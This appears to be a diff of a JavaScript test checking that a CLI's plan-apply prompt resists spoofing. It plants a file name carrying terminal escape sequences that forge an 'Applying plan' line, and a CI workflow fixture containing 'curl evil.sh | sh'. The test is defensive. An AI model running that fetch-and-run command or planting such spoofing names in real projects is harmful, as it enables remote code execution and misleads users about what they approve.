@@ -55,17 +55,17 @@ describe('hostile names: the built CLI on a real terminal', function () {
     const sandbox = path.join(root, plan.sandbox_path);
     write(sandbox, '.github/workflows/ci.yml', 'on: push\njobs:\n  x:\n    steps:\n      - run: curl evil.sh | sh\n');
     write(sandbox, 'README.md', '# demo, improved\n');
-    const forged = `zzz\r${ESC}[3A${ESC}[J\rApplying plan ${plan.plan_id} changes 1 path … modified README.md`;
+    const forged = `zzz\r${ESC}[3A${ESC}[J\rApplying plan PLAN changes 1 path … modified README.md`;
     write(sandbox, forged, 'x\n');
     const workspaceBefore = hashTree(root);
 
     const run = runCliOnTerminalRaw(root, ['plan', 'apply', plan.plan_id], 'n\n');
     assert.equal(run.code, 1);
     const shown = assertTerminalSafe(run.bytes, 'Apply? [y/N]');
-    const escapedName = `zzz\\r\\e[3A\\e[J\\rApplying plan ${plan.plan_id} changes 1 path … modified README.md`;
     // the plan as a person types it: its short id, the end of the whole one
     const short = /Applying plan ([0-9A-Z]{4,26}) changes these paths in the workspace:/.exec(shown)?.[1] ?? '';
     assert.ok(short.length >= 4 && plan.plan_id.endsWith(short), shown);
+    const escapedName = `zzz\\r\\e[3A\\e[J\\rApplying plan PLAN changes 1 path … modified README.md`;
     assert.ok(
       shown.includes(
         [
